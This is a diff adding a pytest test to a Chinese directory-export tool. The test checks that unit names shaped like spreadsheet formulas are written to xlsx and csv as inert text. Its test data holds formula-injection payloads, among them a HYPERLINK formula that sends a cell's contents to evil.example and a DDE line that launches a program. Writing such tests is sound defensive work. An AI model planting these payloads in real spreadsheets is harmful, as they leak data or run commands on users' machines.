@@ -8,7 +8,7 @@ import pytest
 from typer.testing import CliRunner
 
 from duban.cli import app
-from plans.directory import HEADERS, read_directory, write_directory
+from plans.directory import HEADERS, Unit, read_directory, write_directory
 from tests.conftest import UNITS_ZS, zhongshan_directory
 
 runner = CliRunner()
@@ -116,3 +116,26 @@ def test_the_xlsx_export_is_ready_to_print(tmp_path: Path) -> None:
     widths = {c: ws.column_dimensions[c].width for c in "ABF"}
     assert widths["A"] > 12 and widths["B"] > widths["A"]  # 别名 lists are the widest
     assert ws.auto_filter.ref.startswith("A2:")
+
+
+@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
+def test_exports_never_write_a_live_formula(tmp_path: Path, suffix: str) -> None:
+    """A unit named like a formula is exported as text in both formats, and reads back."""
+    from openpyxl import load_workbook
+
+    evil = ['=HYPERLINK("http://evil.example/x?d="&A1,"点击查看")', "+cmd|' /C calc'!A0",
+            "@SUM(1,2)"]
+    units = [Unit(name=n, kind="department") for n in evil]
+    path = tmp_path / f"e.{suffix}"
+    write_directory(units, path, "测试市")
+    if suffix == "xlsx":
+        ws = load_workbook(path).active
+        cells = [ws.cell(r, 1) for r in range(3, 6)]
+        assert [c.data_type for c in cells] == ["s", "s", "s"]
+        assert [c.value for c in cells] == evil
+    else:
+        import csv
+
+        rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+        assert [r[0] for r in rows[2:]] == ["'" + n for n in evil]
+    assert [u.name for u in read_directory(path).units] == evil
